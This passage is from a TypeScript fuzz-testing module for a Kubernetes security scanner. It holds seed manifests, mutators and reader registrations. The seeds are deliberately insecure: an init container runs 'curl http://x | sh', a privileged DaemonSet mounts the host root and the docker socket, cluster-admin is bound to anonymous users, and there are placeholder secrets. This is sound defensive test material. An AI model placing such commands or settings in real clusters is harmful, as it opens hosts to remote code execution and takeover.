/**
 * Fuzzing support shared by the property tests (test/unit/fuzz-*.test.ts, bounded, fixed seed)
 * and the long run (bench/fuzz.ts): real-shaped seed manifests, mutators (bytes, text,
 * structure-aware wrong types at every path kordon reads), the analyses every command runs, and
 * the registry of readers (each reader: an input generator and a run that must never throw).
 *
 * Readers of other areas plug in with registerReader() as they land (the snapshot reader is
 * registered here, since it checks hand-made snapshots; audit, vulnerability and runtime readers
 * add theirs the same way).
 */
import fc from 'fast-check';
import { gzipSync } from 'node:zlib';
import { Readable } from 'node:stream';
import { promises as fsp, readFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { loadManifests } from '../../src/sources/manifests/load.js';
import { AuditReader } from '../../src/sources/audit/read.js';
import { readVulnText } from '../../src/sources/vulns/read.js';
import { readRuntimeText } from '../../src/sources/runtime/read.js';
import { readBehaviourFile } from '../../src/sources/runtime/behaviour/read.js';
import { BehaviourSummary } from '../../src/sources/runtime/behaviour/model.js';
import { readSnapshot } from '../../src/sources/cluster/snapshot.js';
import { Inventory } from '../../src/inventory/inventory.js';
import type { InputProblem, K8sObject, Origin } from '../../src/inventory/types.js';
import { SHAPES } from '../../src/inventory/shapes.generated.js';
import { checkObjectShape } from '../../src/inventory/shapes.js';
import { scanInventory } from '../../src/scan.js';
import { formatReport, REPORT_FORMATS } from '../../src/report/index.js';
import { buildPlan } from '../../src/plan/plan.js';
import { formatPlanJson, formatPlanMarkdown, formatPlanPretty } from '../../src/plan/format.js';
import { buildSecurityGraph } from '../../src/graph/build.js';
import { findAttackPaths } from '../../src/graph/paths.js';
import { ReachabilityEngine, connectionsJson, formatConnections } from '../../src/network/reach.js';
import { computeExposure, describeExposure } from '../../src/network/exposure.js';
import { pssDryRun } from '../../src/frameworks/pss/dry-run.js';

import { whoCan } from '../../src/rbac/who-can.js';
import { effectivePermissions } from '../../src/rbac/permissions.js';
import { escalationPaths } from '../../src/rbac/escalation.js';
import { rbacIndexOf, userInfoFor } from '../../src/rbac/model.js';
import { renderHtmlReport } from '../../src/report/html.js';
import { xorshift128plus } from 'pure-rand/generator/xorshift128plus';

// ---------------------------------------------------------------------------------------------
// Seeds: a small shop as users write it (Deployments with probes and env from Secrets, a
// LoadBalancer, an Ingress, NetworkPolicies, RBAC bound to built-in roles it does not define,
// a DaemonSet mounting the host, a CronJob, a Node, an AdminNetworkPolicy, a custom resource).

export const SEED_OBJECTS: readonly K8sObject[] = [
  { apiVersion: 'v1', kind: 'Namespace', metadata: { name: 'shop', labels: { 'pod-security.kubernetes.io/enforce': 'baseline', team: 'web' } } },
  {
    apiVersion: 'apps/v1', kind: 'Deployment',
    metadata: { name: 'web', namespace: 'shop', labels: { app: 'web' }, annotations: { 'kubectl.kubernetes.io/last-applied-configuration': '{}' } },
    spec: {
      replicas: 2, selector: { matchLabels: { app: 'web' } },
      template: {
        metadata: { labels: { app: 'web', tier: 'front' } },
        spec: {
          serviceAccountName: 'web', automountServiceAccountToken: true, hostNetwork: false, nodeSelector: { 'kubernetes.io/os': 'linux' },
          tolerations: [{ key: 'dedicated', operator: 'Equal', value: 'web', effect: 'NoSchedule' }],
          securityContext: { runAsNonRoot: true, runAsUser: 1000, fsGroup: 2000, seccompProfile: { type: 'RuntimeDefault' }, sysctls: [{ name: 'net.ipv4.ip_local_port_range', value: '1024 65000' }] },
          initContainers: [{ name: 'init', image: 'busybox:1.36', command: ['sh', '-c', 'curl http://x | sh'], securityContext: { privileged: true } }],
          containers: [{
            name: 'web', image: 'registry.example.com/web:1.2.3', imagePullPolicy: 'IfNotPresent', args: ['--port', '8080', '--token=abc'],
            ports: [{ name: 'http', containerPort: 8080, protocol: 'TCP' }, { containerPort: 9090, hostPort: 9090 }],
            env: [{ name: 'DB_PASSWORD', valueFrom: { secretKeyRef: { name: 'db', key: 'password' } } }, { name: 'API_KEY', value: 'not-a-real-key-123' }],
            envFrom: [{ configMapRef: { name: 'web-config' } }, { secretRef: { name: 'db' } }],
            resources: { limits: { cpu: '500m', memory: '256Mi' }, requests: { cpu: 0.1, memory: '128Mi' } },
            securityContext: { allowPrivilegeEscalation: false, readOnlyRootFilesystem: true, capabilities: { drop: ['ALL'], add: ['NET_BIND_SERVICE'] }, runAsUser: 1000 },
            volumeMounts: [{ name: 'cache', mountPath: '/cache' }, { name: 'token', mountPath: '/var/run/secrets/tokens', readOnly: true }],
            livenessProbe: { httpGet: { path: '/healthz', port: 'http', host: '127.0.0.1' } },
            readinessProbe: { tcpSocket: { port: 8080 } },
            lifecycle: { preStop: { exec: { command: ['sleep', '5'] } } },
          }],
          volumes: [
            { name: 'cache', emptyDir: {} },
            { name: 'token', projected: { sources: [{ serviceAccountToken: { path: 'token', expirationSeconds: 3600 } }, { secret: { name: 'db' } }] } },
          ],
        },
      },
    },
  },
  {
    apiVersion: 'apps/v1', kind: 'DaemonSet', metadata: { name: 'agent', namespace: 'kube-system' },
    spec: {
      selector: { matchLabels: { app: 'agent' } },
      template: {
        metadata: { labels: { app: 'agent' } },
        spec: {
          hostPID: true, hostIPC: true, hostNetwork: true, serviceAccountName: 'agent',
          containers: [{ name: 'agent', image: 'agent:latest', securityContext: { privileged: true, capabilities: { add: ['SYS_ADMIN', 'NET_RAW'] }, procMount: 'Unmasked', seLinuxOptions: { type: 'spc_t' }, appArmorProfile: { type: 'Unconfined' }, windowsOptions: { hostProcess: false } },
            volumeMounts: [{ name: 'root', mountPath: '/host' }, { name: 'sock', mountPath: '/var/run/docker.sock' }] }],
          volumes: [{ name: 'root', hostPath: { path: '/', type: 'Directory' } }, { name: 'sock', hostPath: { path: '/var/run/docker.sock' } }],
        },
      },
    },
  },
  {
    apiVersion: 'batch/v1', kind: 'CronJob', metadata: { name: 'backup', namespace: 'shop' },
    spec: { schedule: '0 * * * *', jobTemplate: { spec: { template: { spec: { restartPolicy: 'OnFailure', containers: [{ name: 'b', image: 'backup', env: [{ name: 'PASSWORD', value: 'hunter2hunter2' }] }] } } } } },
  },
  { apiVersion: 'v1', kind: 'Pod', metadata: { name: 'debug', namespace: 'shop', ownerReferences: [{ apiVersion: 'apps/v1', kind: 'ReplicaSet', name: 'web-1', uid: 'u1', controller: true }] }, spec: { nodeName: 'node-1', containers: [{ name: 'd', image: 'alpine', ports: [{ containerPort: 22 }] }], ephemeralContainers: [{ name: 'e', image: 'busybox', targetContainerName: 'd' }] } },
  { apiVersion: 'v1', kind: 'Service', metadata: { name: 'web', namespace: 'shop' }, spec: { type: 'LoadBalancer', selector: { app: 'web' }, ports: [{ name: 'http', port: 80, targetPort: 'http', nodePort: 30080, protocol: 'TCP' }], externalIPs: ['203.0.113.7'], loadBalancerSourceRanges: ['0.0.0.0/0'], externalTrafficPolicy: 'Local' } },
  { apiVersion: 'v1', kind: 'Service', metadata: { name: 'db', namespace: 'shop' }, spec: { clusterIP: 'None', selector: { app: 'db' }, ports: [{ port: 5432, targetPort: 5432 }] } },
  {
    apiVersion: 'networking.k8s.io/v1', kind: 'Ingress', metadata: { name: 'web', namespace: 'shop', annotations: { 'nginx.ingress.kubernetes.io/configuration-snippet': 'more_set_headers "X: y";' } },
    spec: { ingressClassName: 'nginx', defaultBackend: { service: { name: 'web', port: { number: 80 } } }, rules: [{ host: '*.example.com', http: { paths: [{ path: '/', pathType: 'Prefix', backend: { service: { name: 'web', port: { name: 'http' } } } }] } }], tls: [{ hosts: ['shop.example.com'], secretName: 'tls' }] },
  },
  {
    apiVersion: 'networking.k8s.io/v1', kind: 'NetworkPolicy', metadata: { name: 'web', namespace: 'shop' },
    spec: {
      podSelector: { matchLabels: { app: 'web' }, matchExpressions: [{ key: 'tier', operator: 'In', values: ['front'] }] }, policyTypes: ['Ingress', 'Egress'],
      ingress: [{ from: [{ namespaceSelector: { matchLabels: { team: 'web' } }, podSelector: {} }, { ipBlock: { cidr: '10.0.0.0/8', except: ['10.1.0.0/16'] } }], ports: [{ protocol: 'TCP', port: 'http' }, { port: 9000, endPort: 9010 }] }],
      egress: [{ to: [{ ipBlock: { cidr: '0.0.0.0/0' } }], ports: [{ port: 443 }] }, { to: [{ podSelector: { matchLabels: { app: 'db' } } }] }],
    },
  },
  { apiVersion: 'networking.k8s.io/v1', kind: 'NetworkPolicy', metadata: { name: 'deny', namespace: 'shop' }, spec: { podSelector: {}, policyTypes: ['Ingress'] } },
  {
    apiVersion: 'policy.networking.k8s.io/v1alpha1', kind: 'AdminNetworkPolicy', metadata: { name: 'guard' },
    spec: { priority: 10, subject: { namespaces: { matchLabels: { team: 'web' } } }, ingress: [{ name: 'deny-all', action: 'Deny', from: [{ namespaces: {} }], ports: [{ portNumber: { protocol: 'TCP', port: 22 } }] }], egress: [{ action: 'Pass', to: [{ networks: ['169.254.169.254/32'] }] }] },
  },
  { apiVersion: 'v1', kind: 'ServiceAccount', metadata: { name: 'web', namespace: 'shop', annotations: { 'eks.amazonaws.com/role-arn': 'arn:aws:iam::123456789012:role/web' } }, automountServiceAccountToken: true, secrets: [{ name: 'web-token' }], imagePullSecrets: [{ name: 'pull' }] },
  { apiVersion: 'v1', kind: 'ServiceAccount', metadata: { name: 'agent', namespace: 'kube-system' } },
  { apiVersion: 'rbac.authorization.k8s.io/v1', kind: 'Role', metadata: { name: 'pods', namespace: 'shop' }, rules: [{ apiGroups: [''], resources: ['pods', 'pods/exec', 'secrets'], verbs: ['get', 'create', '*'], resourceNames: ['a'] }] },
  { apiVersion: 'rbac.authorization.k8s.io/v1', kind: 'RoleBinding', metadata: { name: 'pods', namespace: 'shop' }, roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'Role', name: 'pods' }, subjects: [{ kind: 'ServiceAccount', name: 'web', namespace: 'shop' }, { kind: 'Group', apiGroup: 'rbac.authorization.k8s.io', name: 'system:authenticated' }] },
  { apiVersion: 'rbac.authorization.k8s.io/v1', kind: 'ClusterRole', metadata: { name: 'agg', labels: { a: 'b' } }, aggregationRule: { clusterRoleSelectors: [{ matchLabels: { 'rbac.example.com/aggregate': 'true' } }] }, rules: [{ nonResourceURLs: ['/metrics', '*'], verbs: ['get'] }, { apiGroups: ['*'], resources: ['*'], verbs: ['impersonate', 'escalate', 'bind'] }] },
  { apiVersion: 'rbac.authorization.k8s.io/v1', kind: 'ClusterRoleBinding', metadata: { name: 'agent' }, roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'cluster-admin' }, subjects: [{ kind: 'ServiceAccount', name: 'agent', namespace: 'kube-system' }, { kind: 'User', name: 'system:anonymous' }] },
  { apiVersion: 'v1', kind: 'Secret', metadata: { name: 'db', namespace: 'shop' }, type: 'Opaque', data: { password: 'aHVudGVyMg==' }, stringData: { token: 'KORDON-FUZZ-CANARY-c0ffee' } },
  { apiVersion: 'v1', kind: 'Secret', metadata: { name: 'web-token', namespace: 'shop', annotations: { 'kubernetes.io/service-account.name': 'web' } }, type: 'kubernetes.io/service-account-token' },
  { apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'web-config', namespace: 'shop' }, data: { 'aws_secret_access_key': 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY', mode: 'prod' } },
  { apiVersion: 'v1', kind: 'Node', metadata: { name: 'node-1', labels: { 'kubernetes.io/os': 'linux' } }, spec: { taints: [{ key: 'dedicated', value: 'web', effect: 'NoSchedule' }] }, status: { addresses: [{ type: 'ExternalIP', address: '198.51.100.4' }, { type: 'InternalIP', address: '10.0.0.4' }] } },
  { apiVersion: 'v1', kind: 'PersistentVolume', metadata: { name: 'pv' }, spec: { hostPath: { path: '/etc' } } },
  { apiVersion: 'apiextensions.k8s.io/v1', kind: 'CustomResourceDefinition', metadata: { name: 'widgets.example.com' }, spec: { group: 'example.com', scope: 'Cluster', names: { kind: 'Widget', plural: 'widgets' } } },
  { apiVersion: 'example.com/v1', kind: 'Widget', metadata: { name: 'w' }, spec: { template: { spec: { containers: [{ name: 'x', image: 'y' }] } } } },
];

// ---------------------------------------------------------------------------------------------
// Values and mutations

/** Keys that are traps in JavaScript objects. */
const TRAP_KEYS = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf', 'length', '', '*', '0'];
/** Every field name kordon reads (from the generated shapes). */
export const READ_FIELDS: readonly string[] = [...new Set(Object.values(SHAPES).flatMap((s) => Object.keys(s)))].sort();

const scalar = fc.oneof(
  fc.string({ maxLength: 12 }),
  fc.constantFrom('', '*', '0', '-1', 'true', 'NaN', '0.0.0.0/0', '::/0', '/', '/etc', 'ALL', 'SYS_ADMIN', 'kube-system', 'system:masters', '999999999999', '1e400', '10.0.0.0/33', 'http', 'Pod', 'v1', '__proto__'),
  fc.integer({ min: -70000, max: 70000 }),
  fc.constantFrom(0, -1, 65536, 2 ** 31, 2 ** 53 + 1, Number.MAX_SAFE_INTEGER, 1.5, -0),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
  fc.boolean(),
  fc.constant(null),
);

/** A value of any type, small, with trap keys in its mappings. */
export const anyValue: fc.Arbitrary<unknown> = fc.letrec<{ v: unknown }>((tie) => ({
  v: fc.oneof(
    { maxDepth: 3, depthSize: 'small' },
    scalar,
    fc.array(tie('v'), { maxLength: 3 }),
    fc.dictionary(fc.oneof(fc.constantFrom(...TRAP_KEYS, ...READ_FIELDS), fc.string({ maxLength: 6 })), tie('v'), { maxKeys: 3 }),
  ),
})).v;

/** Sets a property without ever touching a prototype (`__proto__` is an own key, as JSON.parse makes it). */
export function setOwn(o: Record<string, unknown>, k: string, v: unknown): void {
  Object.defineProperty(o, k, { value: v, writable: true, enumerable: true, configurable: true });
}

/** Every JSON pointer to a value inside an object (the root excluded), as segment lists. */
function pathsOf(v: unknown, prefix: string[] = [], out: string[][] = []): string[][] {
  if (Array.isArray(v)) v.forEach((x, i) => { out.push([...prefix, String(i)]); pathsOf(x, [...prefix, String(i)], out); });
  else if (v && typeof v === 'object') for (const k of Object.keys(v)) { out.push([...prefix, k]); pathsOf((v as Record<string, unknown>)[k], [...prefix, k], out); }
  return out;
}

/** One structure-aware mutation: replace a value, delete it, or add a read field with any value to a mapping. */
export interface Mutation {
  /** Index into the object's paths (modulo their number). */
  at: number;
  op: 'replace' | 'delete' | 'add';
  field: string;
  value: unknown;
}

export const mutation: fc.Arbitrary<Mutation> = fc.record({
  at: fc.nat(),
  op: fc.constantFrom('replace', 'replace', 'delete', 'add'),
  field: fc.oneof(fc.constantFrom(...READ_FIELDS), fc.constantFrom(...TRAP_KEYS)),
  value: anyValue,
});

export function mutate(obj: K8sObject, muts: readonly Mutation[]): K8sObject {
  const root = structuredClone(obj) as unknown as Record<string, unknown>;
  for (const m of muts) {
    const paths = pathsOf(root);
    if (paths.length === 0) break;
    const p = paths[m.at % paths.length]!;
    let parent: unknown = root;
    for (const seg of p.slice(0, -1)) parent = (parent as Record<string, unknown>)[seg];
    const last = p[p.length - 1]!;
    const container = parent as Record<string, unknown> | unknown[];
    if (m.op === 'replace') {
      if (Array.isArray(container)) container[Number(last)] = structuredClone(m.value);
      else setOwn(container, last, structuredClone(m.value));
    } else if (m.op === 'delete') {
      if (Array.isArray(container)) container.splice(Number(last), 1);
      else delete container[last];
    } else {
      const target = Array.isArray(container) ? container[Number(last)] : container[last];
      if (target && typeof target === 'object' && !Array.isArray(target)) setOwn(target as Record<string, unknown>, m.field, structuredClone(m.value));
      else if (!Array.isArray(container)) setOwn(container, m.field, structuredClone(m.value));
    }
  }
  return root as unknown as K8sObject;
}

/** Real-shaped inventories with wrong types anywhere: a few seed objects, each mutated a few times. */
export const mutatedObjects: fc.Arbitrary<K8sObject[]> = fc
  .array(fc.tuple(fc.nat({ max: SEED_OBJECTS.length - 1 }), fc.array(mutation, { minLength: 1, maxLength: 4 })), { minLength: 1, maxLength: 8 })
  .map((picks) => picks.map(([i, muts]) => mutate(SEED_OBJECTS[i]!, muts)));

// ---------------------------------------------------------------------------------------------
// Text: YAML and JSON of the seeds, mutated as bytes and as tokens

function yamlOf(o: unknown, indent = ''): string {
  // a small, deterministic YAML writer (block style; flow for empty collections), for seeds only
  if (o === null || typeof o !== 'object') return JSON.stringify(o);
  if (Array.isArray(o)) return o.length === 0 ? '[]' : o.map((x) => `\n${indent}- ${yamlOf(x, indent + '  ').replace(/^\n\s*/, '')}`).join('');
  const keys = Object.keys(o);
  if (keys.length === 0) return '{}';
  return keys.map((k) => {
    const v = (o as Record<string, unknown>)[k];
    const s = yamlOf(v, indent + '  ');
    return `\n${indent}${JSON.stringify(k)}:${s.startsWith('\n') ? s : ' ' + s}`;
  }).join('');
}

export const SEED_TEXTS: readonly string[] = [
  SEED_OBJECTS.map((o) => yamlOf(o).replace(/^\n/, '')).join('\n---\n') + '\n',
  JSON.stringify({ apiVersion: 'v1', kind: 'List', items: SEED_OBJECTS }, null, 2),
  ...SEED_OBJECTS.slice(0, 6).map((o) => yamlOf(o).replace(/^\n/, '') + '\n'),
];

export const TOKENS: readonly string[] = ['\n', ': ', '- ', '---\n', '...\n', '{', '}', '[', ']', ',', '"', "'", '&a ', '*a', '<<: *a\n', '!!binary ', '!!str ', '!!int ', '? ', '|\n', '>-\n', '\t', '#', '%YAML 1.1\n', '\uFEFF', '\u0000', '\\u0000', 'null', '~', 'yes', '0x1F', '.inf', '1e999', '-.nan', '\r\n', '  ', '\u2028'];

// Edits of a few bytes are where parsers break; the size and depth stresses (a flow nesting up to 3,000
// deep, a block one up to 609, a scalar up to 200 KB) are kept, but weighted 1 in 26 edits (about one input in ten has
// one), so that a long run spends its time on many inputs rather than on megabytes of spaces.
export const textMutation = fc.oneof(
  { arbitrary: fc.record({ kind: fc.constant('flip' as const), at: fc.nat(), byte: fc.integer({ min: 0, max: 255 }) }), weight: 5 },
  { arbitrary: fc.record({ kind: fc.constant('insert' as const), at: fc.nat(), token: fc.constantFrom(...TOKENS) }), weight: 5 },
  { arbitrary: fc.record({ kind: fc.constant('delete' as const), at: fc.nat(), len: fc.integer({ min: 1, max: 40 }) }), weight: 5 },
  { arbitrary: fc.record({ kind: fc.constant('truncate' as const), at: fc.nat() }), weight: 5 },
  { arbitrary: fc.record({ kind: fc.constant('duplicate' as const), at: fc.nat(), len: fc.integer({ min: 1, max: 200 }) }), weight: 4 },
  { arbitrary: fc.record({ kind: fc.constant('nest' as const), at: fc.nat(), depth: fc.integer({ min: 10, max: 3000 }), flow: fc.boolean() }), weight: 1 },
  { arbitrary: fc.record({ kind: fc.constant('huge' as const), at: fc.nat(), size: fc.integer({ min: 1000, max: 200_000 }) }), weight: 1 },
);
export type TextMutation = typeof textMutation extends fc.Arbitrary<infer T> ? T : never;

export function mutateText(text: string, muts: readonly TextMutation[]): Buffer {
  let buf: Buffer = Buffer.from(text, "utf8");
  for (const m of muts) {
    const at = buf.length ? m.at % (buf.length + 1) : 0;
    const splice = (ins: Buffer, del = 0): Buffer => Buffer.concat([buf.subarray(0, at), ins, buf.subarray(Math.min(buf.length, at + del))]);
    switch (m.kind) {
      case 'flip': if (buf.length) { buf = Buffer.from(buf); buf[at % buf.length] = m.byte; } break;
      case 'insert': buf = splice(Buffer.from(m.token, 'utf8')); break;
      case 'delete': buf = splice(Buffer.alloc(0), m.len); break;
      case 'truncate': buf = buf.subarray(0, at); break;
      case 'duplicate': buf = splice(buf.subarray(at, at + m.len)); break;
      // a block nesting grows by its depth squared (each level indents one more): past the readers'
      // 512 levels by a little is enough, 3,000 would be 4.5 MB of spaces
      case 'nest': buf = splice(Buffer.from(m.flow ? '['.repeat(m.depth) + ']'.repeat(m.depth) : Array.from({ length: 10 + (m.depth % 600) }, (_, i) => `\n${' '.repeat(i + 1)}k:`).join('') + ' x\n')); break;
      case 'huge': buf = splice(Buffer.from('x'.repeat(m.size))); break;
    }
  }
  return buf;
}

export const mutatedText: fc.Arbitrary<Buffer> = fc
  .tuple(fc.nat({ max: SEED_TEXTS.length - 1 }), fc.array(textMutation, { minLength: 1, maxLength: 5 }))
  .map(([i, muts]) => mutateText(SEED_TEXTS[i]!, muts));

/** Random bytes, and random text (any code point, so the YAML and JSON parsers see it, not only the UTF-8 check). */
export const randomBytes: fc.Arbitrary<Buffer> = fc.oneof(
  fc.uint8Array({ maxLength: 2048 }).map((a) => Buffer.from(a)),
  fc.string({ unit: 'binary', maxLength: 512 }).map((s) => Buffer.from(s, 'utf8')),
  fc.array(fc.constantFrom(...TOKENS, 'a', 'kind', 'apiVersion', 'metadata', 'name', 'v1', 'Pod', 'items', 'List', '1'), { maxLength: 60 }).map((t) => Buffer.from(t.join(''), 'utf8')),
);

// ---------------------------------------------------------------------------------------------
// What every command computes, in process, on one inventory

/** Runs every analysis the commands run (and every report format) on an inventory; returns all their output as one text. */
export function analyseAll(inv: Inventory): string {
  const out: string[] = [];
  const result = scanInventory(inv, ['fuzz'], { attackPaths: true });
  for (const f of REPORT_FORMATS) if (f !== 'html') out.push(formatReport(result, f, { color: false }));
  const plan = buildPlan(result);
  out.push(formatPlanJson(plan), formatPlanPretty(plan), formatPlanMarkdown(plan));
  const bg = buildSecurityGraph(inv, { cloud: 'auto' });
  const paths = findAttackPaths(bg, { max: 5 });
  out.push(JSON.stringify(paths), renderHtmlReport({ title: 't', paths, summary: { n: paths.total } }).length.toString());
  const engine = new ReachabilityEngine(inv);
  const conns = engine.connections();
  out.push(formatConnections(conns), JSON.stringify(connectionsJson(conns)));
  out.push(computeExposure(inv).map(describeExposure).join('\n'));
  for (const level of ['baseline', 'restricted'] as const) out.push(JSON.stringify(pssDryRun(inv, { level, version: 'latest' })));
  const index = rbacIndexOf(inv, { bindings: true });
  out.push(JSON.stringify(whoCan(index, { verb: 'get', resource: 'secrets', allNamespaces: true })));
  out.push(JSON.stringify(whoCan(index, { verb: 'create', resource: 'pods', namespace: 'shop' })));
  const sa = userInfoFor({ kind: 'ServiceAccount', name: 'web', namespace: 'shop' }, []);
  out.push(JSON.stringify(effectivePermissions(index, sa)), JSON.stringify(escalationPaths(index, sa, { maxDepth: 3 })));
  // a control that threw is a crash too: it is caught and reported, but it must not happen
  const crashed = result.problems.filter((p) => p.code === 'control-error');
  if (crashed.length) throw new Error(`control crashed: ${crashed.map((p) => p.message).join('; ')}`);
  return out.join('\n');
}

export function inventoryOfObjects(objects: readonly K8sObject[]): Inventory {
  const origin = (i: number): Origin => ({ source: 'fuzz.yaml', documentIndex: i, itemPointer: '', line: 1, column: 1 });
  return new Inventory(objects.map((object, i) => ({ object, origin: origin(i) })));
}

/** Every problem names a source and says something. */
export function checkProblems(problems: readonly InputProblem[], sources: readonly string[]): void {
  for (const p of problems) {
    if (!sources.includes(p.source)) throw new Error(`problem names no known source: ${JSON.stringify(p)}`);
    if (typeof p.message !== 'string' || p.message.length === 0) throw new Error(`problem without a message: ${JSON.stringify(p)}`);
    if (p.line !== undefined && !(Number.isInteger(p.line) && p.line > 0)) throw new Error(`problem with a bad line: ${JSON.stringify(p)}`);
  }
}

// ---------------------------------------------------------------------------------------------
// The registry of readers: the long run (bench/fuzz.ts) and the property tests drive each one

export interface FuzzReader<T> {
  name: string;
  /** Generated inputs for this reader. */
  input: fc.Arbitrary<T>;
  /** Reads one input and returns a deterministic text of everything it produced; throws on a property violation. */
  run(input: T): Promise<string>;
}

const readers: Array<FuzzReader<unknown>> = [];

export function registerReader<T>(r: FuzzReader<T>): void {
  readers.push(r as FuzzReader<unknown>);
}

export function fuzzReaders(): ReadonlyArray<FuzzReader<unknown>> {
  return readers;
}

async function readManifestBytes(buf: Buffer): Promise<string> {
  const loaded = await loadManifests(['-'], { stdin: Readable.from([buf]), yamlThreadMinBytes: Infinity });
  const inv = new Inventory([...loaded.objects], [...loaded.problems], loaded.locator);
  checkProblems(inv.problems, ['<stdin>', '-']);
  return JSON.stringify({ objects: inv.objects.map((o) => [o.id, o.origin]), problems: inv.problems });
}

registerReader<Buffer>({ name: 'manifests: random bytes', input: randomBytes, run: readManifestBytes });
registerReader<Buffer>({ name: 'manifests: mutated YAML and JSON', input: mutatedText, run: readManifestBytes });
registerReader<K8sObject[]>({
  name: 'inventory door: wrong types at every path kordon reads',
  input: mutatedObjects,
  async run(objects) {
    const inv = inventoryOfObjects(structuredClone(objects));
    checkProblems(inv.problems, ['fuzz.yaml']);
    // what the door lets in has the API's types: a second pass finds nothing to repair
    for (const o of inv.objects) {
      const again = checkObjectShape(structuredClone(o.object) as unknown as Record<string, unknown>);
      if (again.skip || again.issues.length) throw new Error(`the door let a wrong type in: ${JSON.stringify(again)}`);
    }
    return JSON.stringify({ objects: inv.objects.map((o) => o.id), problems: inv.problems });
  },
});
registerReader<K8sObject[]>({
  name: 'inventory: wrong types at every path kordon reads, through every analysis',
  input: mutatedObjects,
  async run(objects) {
    // the door repairs objects in place: every run gets its own copy of the generated value
    const inv = inventoryOfObjects(structuredClone(objects));
    checkProblems(inv.problems, ['fuzz.yaml']);
    return analyseAll(inv);
  },
});

let snapshotDir: string | undefined;
/** Snapshots: hand-made ones with wrong shapes (null items, items without metadata, a non-list coverage), gzipped or not. */
const snapshotInput: fc.Arbitrary<Buffer> = fc
  .tuple(
    fc.record({
      apiVersion: fc.oneof(fc.constant('kordon.dev/v1'), anyValue),
      kind: fc.oneof(fc.constant('Snapshot'), anyValue),
      source: fc.oneof(fc.constant('cluster:fuzz'), anyValue),
      items: fc.oneof(mutatedObjects, fc.array(anyValue, { maxLength: 3 }), anyValue),
      coverage: fc.oneof(fc.constant([]), fc.array(anyValue, { maxLength: 3 }), anyValue),
      problems: fc.oneof(fc.constant([]), fc.array(anyValue, { maxLength: 3 }), anyValue),
    }),
    fc.boolean(),
    fc.array(textMutation, { maxLength: 2 }),
  )
  .map(([snap, gz, muts]) => {
    const text = muts.length ? mutateText(JSON.stringify(snap), muts) : Buffer.from(JSON.stringify(snap));
    return gz ? gzipSync(text) : text;
  });

/** The snapshot reader (src/sources/cluster/snapshot.ts): hand-made and corrupt snapshots, then the inventory's door. */
export const snapshotReader: FuzzReader<Buffer> = {
  name: 'snapshot reader',
  input: snapshotInput,
  async run(buf) {
    snapshotDir ??= await fsp.mkdtemp(path.join(os.tmpdir(), 'kordon-fuzz-snap-'));
    const file = path.join(snapshotDir, 'snap.json.gz');
    await fsp.writeFile(file, buf);
    const snap = await readSnapshot(file);
    const inv = new Inventory(snap.objects, snap.problems);
    return JSON.stringify({ n: inv.objects.length, problems: inv.problems.length });
  },
};
registerReader(snapshotReader);

// ---------------------------------------------------------------------------------------------
// The readers of the other streams (audit logs, vulnerability reports and SBOMs, runtime
// evidence): real-shaped files of their corpora, mutated as bytes and tokens like manifests.

const REPO = path.resolve(path.dirname(new URL(import.meta.url).pathname), '../..');
function seedTexts(files: readonly string[]): string[] {
  return files.map((f) => readFileSync(path.join(REPO, f), 'utf8'));
}
function mutatedFrom(seeds: readonly string[]): fc.Arbitrary<Buffer> {
  return fc.tuple(fc.nat({ max: seeds.length - 1 }), fc.array(textMutation, { minLength: 1, maxLength: 5 })).map(([i, muts]) => mutateText(seeds[i]!, muts));
}
/** Every problem a reader reports names the source it was given, and never an internal error. */
function checkNamed(problems: ReadonlyArray<{ source?: string; message: string }>, source: string): void {
  for (const p of problems) {
    if (p.source !== source) throw new Error(`a problem names ${String(p.source)}, not ${source}`);
    if (/TypeError|RangeError|undefined is not|Cannot read prop/.test(p.message)) throw new Error(`an internal error reached a problem: ${p.message}`);
  }
}

const AUDIT_SEEDS = seedTexts(['test/corpus/audit/mixed.jsonl', 'test/corpus/audit/eventlist.json', 'test/corpus/audit/context.jsonl', 'test/corpus/audit/cloudwatch-filter-log-events.json', 'test/corpus/audit/azure-kube-audit.json', 'test/corpus/audit/cut-at-end.jsonl']);
registerReader<Buffer>({
  name: 'audit log reader: mutated event lines, EventLists and exports',
  input: mutatedFrom(AUDIT_SEEDS),
  async run(buf) {
    const events: unknown[] = [];
    const reader = new AuditReader((e) => void events.push(e));
    await reader.readStream(Readable.from([buf]), 'audit.log');
    checkNamed(reader.problems, 'audit.log');
    return JSON.stringify({ events, stats: reader.stats, problems: reader.problems });
  },
});

const VULN_SEEDS = seedTexts(['test/corpus/vulns/shop/reports/trivy-nginx.json', 'test/corpus/vulns/shop/reports/grype-nginx.json', 'test/corpus/vulns/shop/reports/cyclonedx-api.json', 'test/corpus/vulns/shop/reports/syft-api.json', 'test/corpus/vulns/shop/reports/spdx-worker.json', 'test/corpus/vulns/shop/reports/trivy-k8s.json']);
registerReader<Buffer>({
  name: 'vulnerability reports and SBOMs: mutated Trivy, Grype, CycloneDX, Syft, SPDX',
  input: mutatedFrom(VULN_SEEDS),
  async run(buf) {
    const problems: InputProblem[] = [];
    const read = readVulnText('report.json', buf.toString('utf8'), problems);
    checkNamed(problems, 'report.json');
    return JSON.stringify({ read, problems });
  },
});

const EVIDENCE_SEEDS = seedTexts(['test/corpus/vulns/shop/runtime/falco-worker.json', 'test/corpus/vulns/shop/runtime/kubescape-storefront.yaml', 'test/corpus/vulns/shop/runtime/tetragon-api.jsonl', 'test/corpus/vulns/shop/runtime/kordon-api.yaml']);
registerReader<Buffer>({
  name: 'runtime evidence (files executed and opened): mutated Kubescape, Tetragon, Falco, kordon',
  input: mutatedFrom(EVIDENCE_SEEDS),
  async run(buf) {
    const problems: InputProblem[] = [];
    const evidence = readRuntimeText('evidence.yaml', buf.toString('utf8'), problems);
    checkNamed(problems, 'evidence.yaml');
    return JSON.stringify({ evidence, problems });
  },
});

const BEHAVIOUR_SEEDS = seedTexts(['test/fixtures/harden/shop/runtime/hubble.jsonl', 'test/fixtures/harden/shop/runtime/tetragon.jsonl', 'test/fixtures/harden/shop/runtime/kubescape-api.yaml', 'test/fixtures/harden/shop/runtime/spo-db.yaml', 'test/fixtures/harden/shop/runtime/gadget-db-capabilities.jsonl', 'test/fixtures/harden/shop/runtime/kordon-report.lines']);
